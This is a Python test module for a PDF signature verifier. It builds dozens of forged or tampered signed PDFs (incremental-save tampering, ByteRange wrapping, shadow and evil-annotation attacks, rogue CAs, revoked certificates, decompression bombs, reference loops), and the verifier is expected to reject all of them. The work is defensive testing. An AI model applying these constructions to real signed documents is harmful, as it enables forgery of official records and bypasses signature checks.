"""The attack files: every public family against signed PDFs, made from own bytes with an own PKI.

``ATTACKS`` maps a name to a function that gives a ``Case``; none of them may ever be judged PASSED. The families are
those of the published studies on PDF signatures (incremental saving, wrapping, universal forgery, shadow, evil
annotation, sneaky signature) plus certificates, time, stripping, and resource exhaustion.
"""

from __future__ import annotations

import io
import re
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta
from functools import cache

from asn1crypto import cms
from cryptography.x509.oid import ExtendedKeyUsageOID
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name, pdf_string
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign.fields import MDPPerm, SigFieldSpec, append_signature_field

from signing.trust import TrustStore
from signing.verify.model import Expected, ExpectedSignature, Level
from tests.signing_verify import raw
from tests.signing_verify.making import add_evidence, add_timestamp, base, lta, sign
from tests.signing_verify.pki import YEAR, Pki, crl, good, now, ocsp_answer, rogue


@dataclass(frozen=True)
class Case:
    """A file, the trust it is judged with (the good root unless said), and what the register knows."""

    pdf: bytes
    trust: TrustStore | None = None
    expected: Expected | None = None


ATTACKS: dict[str, Callable[[], Case]] = {}


def attack(function: Callable[[], Case | bytes]) -> Callable[[], Case]:
    @cache
    def made() -> Case:
        result = function()
        return result if isinstance(result, Case) else Case(result)

    ATTACKS[function.__name__.strip("_")] = made
    return made


@cache
def trust() -> TrustStore:
    """The good root, and fresh revocation lists: what an attack file lacks is never mere evidence."""
    anchors = TrustStore.from_certificates([good().root.der]).anchors
    return TrustStore(anchors, crls=tuple(good().crls(at())))


def at(minutes: float = 10):
    return now() - timedelta(minutes=minutes)


@cache
def signed() -> bytes:
    """One signature, evidence, document timestamp."""
    return lta(good(), at())


@cache
def signed_lt() -> bytes:
    return lta(good(), at(), stamp=False)


@cache
def signed_bt() -> bytes:
    return sign(base(), good().person, tsa=good().tsa, at=at())


@cache
def signed_two() -> bytes:
    g = good()
    return lta(g, at(), signers=(("NguoiChungThuc", g.person), ("CoQuan", g.agency)))


@cache
def certified() -> bytes:
    return lta(good(), at(), certify=MDPPerm.FILL_FORMS)


EVIL = "BT /F1 24 Tf 72 700 Td (QUYET DINH GIA MAO) Tj ET"


# -- incremental saving (eight variants) -----------------------------------------------------------------------------


@attack
def isa_page_replaced() -> bytes:
    pdf = signed()
    return raw.append(pdf, {raw.content_of_page(pdf): raw.stream(EVIL)})


@attack
def isa_after_evidence_only() -> bytes:
    pdf = signed_lt()
    return raw.append(pdf, {raw.content_of_page(pdf): raw.stream(EVIL)})


@attack
def isa_without_table() -> bytes:
    pdf = signed()
    return raw.append(pdf, {raw.content_of_page(pdf): raw.stream(EVIL)}, table=False, trailer=False)


@attack
def isa_without_trailer() -> bytes:
    pdf = signed()
    return raw.append(pdf, {raw.content_of_page(pdf): raw.stream(EVIL)}, trailer=False)


@attack
def isa_without_end() -> bytes:
    pdf = signed()
    return raw.append(pdf, {raw.content_of_page(pdf): raw.stream(EVIL)}, table=False, trailer=False, end=False)


@attack
def isa_unlisted_object() -> bytes:
    """The table is right, the replaced object stands in the body but not in the table."""
    pdf = signed_lt()
    number = raw.content_of_page(pdf)
    extra = raw.size_and_root(pdf)[0]
    return raw.append(pdf, {number: raw.stream(EVIL), extra: b"<< >>"}, listed={extra})


@attack
def isa_copied_signature() -> bytes:
    """A second copy of the signature dictionary in the update, so that coverage seems to exist."""
    pdf = signed_bt()
    value = re.search(rb"(\d+) 0 obj\s*<<[^>]*?/Type\s*/Sig\b", pdf) or re.search(rb"/V (\d+) 0 R", pdf)
    assert value is not None
    number = int(value[1])
    return raw.append(pdf, {raw.content_of_page(pdf): raw.stream(EVIL), number: raw.body_of(pdf, number)})


@attack
def isa_new_page() -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        stream = generic.StreamObject(stream_data=EVIL.encode())
        page = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Page"),
                pdf_name("/MediaBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 595, 842))),
                pdf_name("/Contents"): writer.add_object(stream),
            }
        )
        writer.insert_page(page, after=0)

    return raw.edit(signed(), change)


# -- wrapping and universal forgery ----------------------------------------------------------------------------------


def _byte_range(pdf: bytes, values: tuple[object, ...]) -> bytes:
    """Overwrite the first ByteRange in place, padded to the same length."""
    found = re.search(rb"/ByteRange\s*\[[^\]]*\]", pdf)
    assert found is not None
    text = b"/ByteRange [" + b" ".join(str(v).encode() for v in values) + b"]"
    room = len(found[0])
    if len(text) > room:
        text = text.replace(b" ", b"", 1)
    assert len(text) <= room, (text, found[0])
    return pdf[: found.start()] + text.ljust(room) + pdf[found.end() :]


@attack
def swa_moved_second_part() -> bytes:
    """Insert unsigned bytes right behind the signature value and move the second signed part along."""
    pdf = signed_bt()
    first, second = raw.signature_gap(pdf)
    extra = b"\n% chen vao giua\n"
    shifted = pdf[:second] + extra + pdf[second:]
    return _byte_range(shifted, (0, first, second + len(extra), len(pdf) - second))


@attack
def swa_wrapped_in_contents() -> bytes:
    """Close the value early; what was padding becomes an entry of the dictionary that nothing signs."""
    pdf = signed_bt()
    _, second = raw.signature_gap(pdf)
    hidden = b">/Reason (Noi dung khong ky)"
    room = 400
    return pdf[: second - room] + hidden.ljust(room) + pdf[second:]


def _forged(change: Callable[[bytes], bytes]) -> bytes:
    return change(signed_bt())


@attack
def usf_byte_range_missing() -> bytes:
    return _forged(lambda p: p.replace(b"/ByteRange", b"/ByteRonge", 1))


@attack
def usf_byte_range_empty() -> bytes:
    return _forged(lambda p: _byte_range(p, ()))


@attack
def usf_byte_range_zero() -> bytes:
    return _forged(lambda p: _byte_range(p, (0, 0, 0, 0)))


@attack
def usf_byte_range_negative() -> bytes:
    return _forged(lambda p: _byte_range(p, (0, 10, -5, 20)))


@attack
def usf_byte_range_null() -> bytes:
    return _forged(lambda p: _byte_range(p, ("null",)))


@attack
def usf_byte_range_huge() -> bytes:
    return _forged(lambda p: _byte_range(p, (0, 10, 20, 999999999)))


def _contents(pdf: bytes, value: bytes) -> bytes:
    first, second = raw.signature_gap(pdf)
    return pdf[:first] + value.ljust(second - first, b" ") + pdf[second:]


@attack
def usf_contents_empty() -> bytes:
    return _forged(lambda p: _contents(p, b"<>"))


@attack
def usf_contents_null() -> bytes:
    return _forged(lambda p: _contents(p, b"null"))


@attack
def usf_contents_zero() -> bytes:
    return _forged(lambda p: _contents(p, b"<" + b"00" * 40 + b">"))


@attack
def usf_contents_missing() -> bytes:
    first, _ = raw.signature_gap(signed_bt())
    at_key = signed_bt().rfind(b"/Contents", 0, first)
    pdf = signed_bt()
    return pdf[:at_key] + b"/Kontents" + pdf[at_key + 9 :]


@attack
def usf_filter_unknown() -> bytes:
    return _forged(lambda p: p.replace(b"/ETSI.CAdES.detached", b"/XXXX.YYYYY.zzzzzzzz", 1))


@attack
def padding_filled() -> bytes:
    """Data hidden in the unsigned padding behind the signature value."""
    pdf = signed_bt()
    _, second = raw.signature_gap(pdf)
    return pdf[: second - 41] + b"4d" * 20 + pdf[second - 1 :]


# -- bit flips and tail ----------------------------------------------------------------------------------------------


@attack
def flip_text() -> bytes:
    assert b"QUYET DINH trang 1" in signed()
    return signed().replace(b"QUYET DINH trang 1", b"QUYET DINH trang 7", 1)


@attack
def flip_in_signature() -> bytes:
    pdf = bytearray(signed_bt())
    first, second = raw.signature_gap(bytes(pdf))
    value = bytes.fromhex(pdf[first + 1 : second - 1].decode())
    own = cms.ContentInfo.load(value)["content"]["signer_infos"][0]["signature"].native
    place = first + 1 + 2 * (value.rindex(own) + len(own) // 2)  # certificates beside it change places with their keys
    pdf[place] = ord("0") if pdf[place] != ord("0") else ord("1")
    return bytes(pdf)


@attack
def flip_in_timestamp() -> bytes:
    pdf = bytearray(signed())
    first, _ = raw.signature_gap(bytes(pdf), 1)
    for place in range(first + 1 + 2 * 150, first + 1 + 2 * 160):
        pdf[place] = ord("0") if pdf[place] != ord("0") else ord("1")
    return bytes(pdf)


@attack
def trailing_bytes() -> bytes:
    return signed() + b"% them vao sau\n" + b"A" * 64


@attack
def trailing_second_file() -> bytes:
    return signed() + base()


@attack
def truncated() -> bytes:
    return signed_bt()[:-40]


# -- shadow ----------------------------------------------------------------------------------------------------------


@attack
def shadow_replace() -> bytes:
    """The signer saw one content; the update swaps the reference to a prepared second one."""

    def prepared(writer: IncrementalPdfFileWriter) -> None:
        writer.add_object(generic.StreamObject(stream_data=EVIL.encode()))

    first = raw.edit(base(), prepared)
    pdf = lta(good(), at(), pdf=first)
    shadow = raw.size_and_root(first)[0] - 1
    page = raw.page_number(pdf)
    body = re.sub(rb"/Contents \d+ 0 R", b"/Contents %d 0 R" % shadow, raw.body_of(pdf, page))
    return raw.append(pdf, {page: body})


@attack
def shadow_hide() -> bytes:
    """An annotation covers text until the update takes it away."""
    holder: list[int] = []

    def cover(writer: IncrementalPdfFileWriter) -> None:
        annotation = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Square"),
                pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (60, 690, 400, 730))),
                pdf_name("/F"): generic.NumberObject(4),
            }
        )
        reference = writer.add_object(annotation)
        holder.append(reference.idnum)
        writer.register_annotation(writer.find_page_for_modification(0)[0], reference)

    pdf = lta(good(), at(), pdf=raw.edit(base(), cover))
    return raw.append(pdf, {holder[0]: b"<< /Type /Annot /Subtype /Square /Rect [0 0 0 0] /F 2 >>"})


@attack
def shadow_font_swapped() -> bytes:
    """Same text codes, other glyphs: the font object is replaced."""
    pdf = signed()
    reader = PdfFileReader(io.BytesIO(pdf))
    font = reader.root["/Pages"]["/Kids"][0]["/Resources"]["/Font"].raw_get("/F1").idnum
    return raw.append(pdf, {font: b"<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>"})


@attack
def shadow_pages_tree() -> bytes:
    pdf = signed()
    reader = PdfFileReader(io.BytesIO(pdf))
    pages = reader.root.raw_get("/Pages").idnum
    kid = reader.root["/Pages"]["/Kids"].raw_get(1).idnum
    return raw.append(pdf, {pages: b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % kid})


# -- annotations, fields, extra signatures ---------------------------------------------------------------------------


def _stamp_annotation(pdf: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        annotation = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/FreeText"),
                pdf_name("/Contents"): pdf_string("Gia mao"),
                pdf_name("/DA"): pdf_string("/Helv 24 Tf"),
                pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (60, 690, 400, 730))),
            }
        )
        writer.register_annotation(writer.find_page_for_modification(0)[0], writer.add_object(annotation))

    return raw.edit(pdf, change)


@attack
def evil_annotation() -> bytes:
    return _stamp_annotation(signed())


@attack
def evil_annotation_certified() -> bytes:
    return _stamp_annotation(certified())


@attack
def evil_annotation_certified_annotate() -> bytes:
    return _stamp_annotation(lta(good(), at(), certify=MDPPerm.ANNOTATE))


def _empty_field_with_picture(pdf: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        append_signature_field(writer, SigFieldSpec("Them", box=(60, 600, 500, 780)))
        fields = writer.root["/AcroForm"]["/Fields"]
        field = fields[len(fields) - 1]
        picture = generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 440, 180))),
            },
            stream_data=b"1 1 1 rg 0 0 440 180 re f",
        )
        field[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(picture)})
        writer.update_container(field)

    return raw.edit(pdf, change)


@attack
def empty_field_covers_text() -> bytes:
    return _empty_field_with_picture(signed_lt())


@attack
def sneaky_signature_rogue() -> bytes:
    """A second, visible signature by somebody unknown covers the text."""
    return sign(signed_lt(), rogue().person, field="Them", tsa=rogue().tsa, at=at(5), new_box=(60, 600, 500, 780))


@attack
def sneaky_signature_self_evidence() -> bytes:
    """The same, with the rogue's own evidence added."""
    r = rogue()
    pdf = sign(signed_lt(), r.person, field="Them", tsa=r.tsa, at=at(5), new_box=(60, 600, 500, 780))
    return add_timestamp(add_evidence(pdf, certs=r.certificates(), crls=r.crls(at(5))), good().tsa, at(4))


@attack
def extra_trusted_signature_unexpected() -> Case:
    """A trusted but unregistered signer adds a signature: only the register can tell."""
    wanted = Expected((ExpectedSignature("NguoiChungThuc"),))
    return Case(signed_two(), expected=wanted)


@attack
def field_stripped() -> Case:
    """The agency's signature is taken out of the form by an update before the last evidence."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        fields = writer.root["/AcroForm"]["/Fields"]
        del fields[1]
        writer.update_container(fields)

    pdf = raw.edit(signed_two(), change)
    return Case(pdf, expected=Expected((ExpectedSignature("NguoiChungThuc"), ExpectedSignature("CoQuan"))))


@attack
def all_fields_stripped() -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        del writer.root["/AcroForm"]
        writer.update_root()

    return raw.edit(signed(), change)


@attack
def rollback_to_first_signature() -> Case:
    """The file is cut back to the state before the agency signed; everything left is genuine."""
    g = good()
    pdf = lta(g, at(), stamp=False)
    wanted = Expected((ExpectedSignature("NguoiChungThuc"), ExpectedSignature("CoQuan")), Level.B_LTA)
    return Case(pdf, expected=wanted)


@attack
def rollback_level() -> Case:
    return Case(signed_lt(), expected=Expected((ExpectedSignature("NguoiChungThuc"),), Level.B_LTA))


@attack
def wrong_role() -> Case:
    g = good()
    store = TrustStore.from_certificates([g.root.der], roles=["person", "tsa"])
    return Case(signed(), store, Expected((ExpectedSignature("NguoiChungThuc", "agency"),)))


@attack
def appearance_swapped() -> bytes:
    pdf = signed()
    reader = PdfFileReader(io.BytesIO(pdf))
    picture = reader.root["/AcroForm"]["/Fields"][0]["/AP"].raw_get("/N").idnum
    fake = b"1 0 0 rg 0 0 200 70 re f"
    head = b"<< /Type /XObject /Subtype /Form /BBox [0 0 200 70] /Length %d >>" % len(fake)
    return raw.append(pdf, {picture: head + b"\nstream\n" + fake + b"\nendstream"})


@attack
def widget_moved() -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        field = writer.root["/AcroForm"]["/Fields"][0]
        field[pdf_name("/Rect")] = generic.ArrayObject(map(generic.NumberObject, (60, 400, 560, 780)))
        writer.update_container(field)

    return raw.edit(signed(), change)


@attack
def visible_document_timestamp() -> bytes:
    """A timestamp, which anybody can get, with a picture that covers the text."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        append_signature_field(writer, SigFieldSpec("Them", box=(60, 600, 500, 780)))

    from pyhanko.sign import PdfTimeStamper

    out = io.BytesIO()
    worker = PdfTimeStamper(good().tsa.stamper(at(5)), field_name="Them")
    worker.timestamp_pdf(IncrementalPdfFileWriter(io.BytesIO(raw.edit(signed_lt(), change))), "sha256", output=out)
    return out.getvalue()


# -- things added later ----------------------------------------------------------------------------------------------


def _catalog(pdf: bytes, key: str, value: generic.PdfObject) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        writer.root[pdf_name(key)] = value
        writer.update_root()

    return raw.edit(pdf, change)


def _dictionary(**items: generic.PdfObject) -> generic.DictionaryObject:
    return generic.DictionaryObject({pdf_name("/" + k): v for k, v in items.items()})


@attack
def javascript_added() -> bytes:
    action = _dictionary(S=pdf_name("/JavaScript"), JS=pdf_string("app.alert(1)"))
    return _catalog(signed(), "/OpenAction", action)


@attack
def attachment_added() -> bytes:
    files = _dictionary(Names=generic.ArrayObject([pdf_string("a.txt"), _dictionary(Type=pdf_name("/Filespec"))]))
    return _catalog(signed(), "/Names", _dictionary(EmbeddedFiles=files))


@attack
def layers_added() -> bytes:
    return _catalog(signed(), "/OCProperties", _dictionary(OCGs=generic.ArrayObject(), D=_dictionary()))


@attack
def title_changed() -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        info = writer.trailer["/Info"]
        info[pdf_name("/Title")] = pdf_string("Quyet dinh khac")
        writer.update_container(info)

    return raw.edit(signed(), change)


@attack
def other_form_field_added() -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        field = _dictionary(
            FT=pdf_name("/Tx"),
            T=pdf_string("SoTien"),
            V=pdf_string("1.000.000"),
            Type=pdf_name("/Annot"),
            Subtype=pdf_name("/Widget"),
            Rect=generic.ArrayObject(map(generic.NumberObject, (60, 690, 400, 730))),
        )
        reference = writer.add_object(field)
        fields = writer.root["/AcroForm"]["/Fields"]
        fields.append(reference)
        writer.update_container(fields)
        writer.register_annotation(writer.find_page_for_modification(0)[0], reference)

    return raw.edit(signed(), change)


@attack
def page_rotated() -> bytes:
    pdf = signed()
    page = raw.page_number(pdf)
    return raw.append(pdf, {page: raw.body_of(pdf, page).replace(b"<<", b"<< /Rotate 180", 1)})


@attack
def junk_in_evidence_store() -> bytes:
    """Objects that no table lists, hidden in the unsigned revision of the evidence."""
    pdf = signed_lt()
    extra = b"\n5 0 obj\n" + raw.stream(EVIL) + b"\nendobj\n"
    start = raw.last_startxref(pdf)
    moved = pdf[:start] + extra + pdf[start:]
    return re.sub(rb"startxref\s+%d\s" % start, b"startxref\n%d\n" % (start + len(extra)), moved)


# -- certificates and time -------------------------------------------------------------------------------------------


@attack
def rogue_ca_equal_names() -> bytes:
    return lta(rogue(), at())


@attack
def rogue_signer_good_timestamps() -> bytes:
    r, g = rogue(), good()
    pdf = sign(base(), r.person, tsa=g.tsa, at=at())
    pdf = add_evidence(pdf, certs=[*r.certificates(), *g.certificates()], crls=[*r.crls(at()), *g.crls(at())])
    return add_timestamp(pdf, g.tsa, at(9))


@attack
def rogue_tsa_equal_names() -> bytes:
    r, g = rogue(), good()
    pdf = sign(base(), g.person, tsa=r.tsa, at=at())
    crls = [*r.crls(at()), *g.crls(at())]
    return add_timestamp(add_evidence(pdf, certs=[*r.certificates(), *g.certificates()], crls=crls), r.tsa, at(9))


@attack
def rogue_root_embedded() -> bytes:
    """The rogue brings a copy of the good root's certificate among its own."""
    r, g = rogue(), good()
    pdf = sign(base(), r.person, tsa=r.tsa, at=at())
    return add_evidence(pdf, certs=[*r.certificates(), *g.certificates()], crls=[*r.crls(at()), *g.crls(at())])


@attack
def signer_as_own_ca() -> bytes:
    """A person's certificate issues another one."""
    g = good()
    fake = g.leaf("Ủy ban giả mạo", issuer=g.person)
    pdf = sign(base(), fake, tsa=g.tsa, at=at())
    crls = [*g.crls(at()), crl(g.person, at())]
    return add_timestamp(add_evidence(pdf, certs=[*g.certificates(), g.person.asn1], crls=crls), g.tsa, at(9))


@attack
def timestamp_by_ordinary_certificate() -> bytes:
    """A signer's certificate of the right CA plays the timestamp authority."""
    g = good()
    return add_evidence(
        sign(base(), g.person, tsa=g.leaf("TSA giả", kind="rsa"), at=at()), certs=g.certificates(), crls=g.crls(at())
    )


@attack
def signed_with_tsa_certificate() -> bytes:
    g = good()
    return lta(g, at(), signers=(("NguoiChungThuc", g.tsa),))


@attack
def signed_with_server_certificate() -> bytes:
    g = good()
    server = g.leaf("may-chu.example.vn", purposes=[ExtendedKeyUsageOID.SERVER_AUTH])
    return lta(g, at(), signers=(("NguoiChungThuc", server),))


@attack
def signed_with_ca_certificate() -> bytes:
    g = good()
    return lta(g, at(), signers=(("NguoiChungThuc", g.leaf("CA phụ", ca=True, usage="ca")),))


@attack
def expired_signer() -> bytes:
    """Signed today, honestly timestamped today, with a certificate that ended two years ago."""
    g = good()
    old = g.leaf("Người đã hết hạn", start=now() - 4 * YEAR, end=now() - 2 * YEAR)
    return lta(g, at(), signers=(("NguoiChungThuc", old),))


@attack
def expired_signer_bt() -> Case:
    g = good()
    old = g.leaf("Người đã hết hạn", start=now() - 4 * YEAR, end=now() - 2 * YEAR)
    store = TrustStore(trust().anchors, crls=tuple(g.crls(at())))
    return Case(sign(base(), old, tsa=g.tsa, at=at()), store)


@attack
def signed_before_validity() -> bytes:
    g = good()
    early = g.leaf("Người chưa có hiệu lực", start=now() - timedelta(days=1))
    pdf = sign(base(), early, tsa=g.tsa, at=now() - timedelta(days=30))
    pdf = add_evidence(pdf, certs=g.certificates(), crls=g.crls(at()))
    return add_timestamp(pdf, g.tsa, at(9))


@attack
def revoked_signer() -> bytes:
    g = good()
    who = g.leaf("Người bị thu hồi")
    when = now() - timedelta(days=3)
    return lta(g, at(), signers=(("NguoiChungThuc", who),), revoked={who.certificate.serial_number: when})


@attack
def revoked_signer_with_old_list() -> bytes:
    """The revocation list is there, and an older one from before the revocation as well."""
    g = good()
    who = g.leaf("Người bị thu hồi hai")
    when = now() - timedelta(days=3)
    pdf = sign(base(), who, tsa=g.tsa, at=at())
    old = g.crls(now() - timedelta(days=5), days=30)
    new = g.crls(at(), revoked={who.certificate.serial_number: when})
    return add_timestamp(add_evidence(pdf, certs=g.certificates(), crls=[*old, *new]), g.tsa, at(9))


@attack
def revoked_signer_good_ocsp() -> bytes:
    """An OCSP answer from before the revocation beside a list that names the certificate."""
    g = good()
    who = g.leaf("Người bị thu hồi ba")
    when = now() - timedelta(days=3)
    pdf = sign(base(), who, tsa=g.tsa, at=at())
    answer = ocsp_answer(who, now() - timedelta(days=4), days=30)
    crls = g.crls(at(), revoked={who.certificate.serial_number: when})
    return add_timestamp(add_evidence(pdf, certs=g.certificates(), crls=crls, ocsps=[answer]), g.tsa, at(9))


@attack
def revoked_then_expired() -> Case:
    """Revoked, then expired: expiry must not hide the revocation."""
    old = Pki(now() - 8 * YEAR, now() + 5 * YEAR, label="old")
    who = old.leaf("Người cũ", end=now() - 2 * YEAR)
    t = now() - 3 * YEAR
    pdf = lta(old, t, signers=(("NguoiChungThuc", who),), revoked={who.certificate.serial_number: t - YEAR / 2})
    pdf = add_evidence(pdf, certs=old.certificates(), crls=old.crls(at()))
    return Case(add_timestamp(pdf, old.tsa, at(9)), TrustStore.from_certificates([old.root.der]))


@attack
def revoked_ca() -> bytes:
    g = good()
    pdf = sign(base(), g.person, tsa=g.tsa, at=at())
    when = {g.ca.certificate.serial_number: now() - timedelta(days=3)}
    return add_evidence(pdf, certs=g.certificates(), crls=[crl(g.root, at(), revoked=when), crl(g.ca, at())])


@attack
def forged_list() -> Case:
    """The revocation lists are signed by the rogue under the good names."""
    g = good()
    pdf = add_evidence(sign(base(), g.person, tsa=g.tsa, at=at()), certs=g.certificates(), crls=rogue().crls(at()))
    return Case(pdf, TrustStore(trust().anchors))


@attack
def timestamp_in_future() -> bytes:
    g = good()
    pdf = sign(base(), g.person, tsa=g.tsa, at=now() + timedelta(days=2))
    return add_evidence(pdf, certs=g.certificates(), crls=g.crls(at()))


@attack
def weak_key() -> bytes:
    g = good()
    return lta(g, at(), signers=(("NguoiChungThuc", g.leaf("Khóa yếu", kind="weak")),))


@attack
def weak_digest() -> bytes:
    return lta(good(), at(), digest="sha1")


@attack
def withdrawn_anchor() -> Case:
    from dataclasses import replace

    anchor = replace(trust().anchors[0], valid_until=now() - timedelta(days=30))
    return Case(signed(), TrustStore((anchor,)))


@attack
def tsa_root_as_person() -> Case:
    """The root is trusted for timestamps only."""
    return Case(signed(), TrustStore.from_certificates([good().root.der], roles=["tsa"]))


@attack
def signature_of_unknown_type() -> bytes:
    """The document timestamp calls itself something that nobody would judge."""
    pdf = signed()
    return pdf[: pdf.rindex(b"/DocTimeStamp")] + b"/DocTimeStomp" + pdf[pdf.rindex(b"/DocTimeStamp") + 13 :]


@attack
def foreign_object_among_certificates() -> bytes:
    """A certificate beside the last timestamp is something else that a CMS may hold and nobody looks at."""
    pdf = signed()
    first, second = raw.signature_gap(pdf, 1)
    value = bytearray.fromhex(pdf[first + 1 : second - 1].decode())
    at = value.rindex(good().root.der)
    value[at] = 0xA0  # extendedCertificate [0]
    digits = value.hex().encode()
    return pdf[: first + 1] + (digits.upper() if b"A" in pdf[first:second] else digits) + pdf[second - 1 :]


@attack
def extension_of_catalogue_changed() -> bytes:
    """Behind the last signature a developer extension of the catalogue becomes something else."""
    pdf = lta(good(), at(), signers=(("CoQuan", good().leaf("Người ký P384 hai", kind="p384")),), digest="sha384")
    root = int(raw.size_and_root(pdf)[1].split()[0])
    body = raw.body_of(pdf, root)
    changed = re.sub(rb"/BaseVersion /[0-9.]+", b"/BaseVersion 1.7", body)
    assert changed != body
    return raw.append(pdf, {root: changed})


# -- exhaustion ------------------------------------------------------------------------------------------------------


@attack
def bomb_in_evidence_store() -> bytes:
    """A revocation list of 48 MB in a few hundred bytes."""
    data = zlib.compress(zlib.compress(b"\0" * (48 * 1024 * 1024), 1), 9)
    pdf = signed_bt()
    number = raw.size_and_root(pdf)[0]
    root = int(raw.size_and_root(pdf)[1].split()[0])
    head = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>" % len(data)
    body = raw.body_of(pdf, root).replace(b"<<", b"<< /DSS << /CRLs [%d 0 R] >>" % number, 1)
    pdf = raw.append(pdf, {number: head + b"\nstream\n" + data + b"\nendstream", root: body})
    return sign(pdf, rogue().person, field="CoQuan", at=at())


@attack
def bomb_object_stream() -> bytes:
    data = zlib.compress(b" " * (90 * 1024 * 1024), 9)
    pdf = signed_bt()
    number = raw.size_and_root(pdf)[0]
    head = b"<< /Type /ObjStm /N 1 /First 4 /Length %d /Filter /FlateDecode >>" % len(data)
    return raw.append(pdf, {number: head + b"\nstream\n" + data + b"\nendstream"})


@attack
def loop_pages() -> bytes:
    pdf = signed()
    reader = PdfFileReader(io.BytesIO(pdf))
    pages = reader.root.raw_get("/Pages").idnum
    return raw.append(pdf, {pages: b"<< /Type /Pages /Count 9 /Kids [%d 0 R] /Parent %d 0 R >>" % (pages, pages)})


@attack
def loop_fields() -> bytes:
    pdf = signed()
    reader = PdfFileReader(io.BytesIO(pdf))
    number = reader.root["/AcroForm"]["/Fields"].raw_get(0).idnum
    return raw.append(pdf, {number: b"<< /T (a) /FT /Sig /Kids [%d 0 R] >>" % number})


@attack
def loop_previous() -> bytes:
    """The cross-reference chain points at itself."""
    pdf = signed_bt()
    appended = raw.append(pdf, {raw.size_and_root(pdf)[0]: b"<< >>"})
    start = raw.last_startxref(appended)
    before = raw.last_startxref(pdf)
    return re.sub(rb"/Prev %d >>" % before, b"/Prev %d >>" % start, appended)


@attack
def nested_arrays() -> bytes:
    pdf = signed()
    return raw.append(pdf, {raw.size_and_root(pdf)[0]: b"[" * 60000 + b"]" * 60000})


@attack
def loop_reference() -> bytes:
    pdf = signed()
    number = raw.size_and_root(pdf)[0]
    root = int(raw.size_and_root(pdf)[1].split()[0])
    body = raw.body_of(pdf, root).replace(b"<<", b"<< /DSS %d 0 R /Old" % number, 1)
    return raw.append(pdf, {number: b"%d 0 R" % number, root: body})
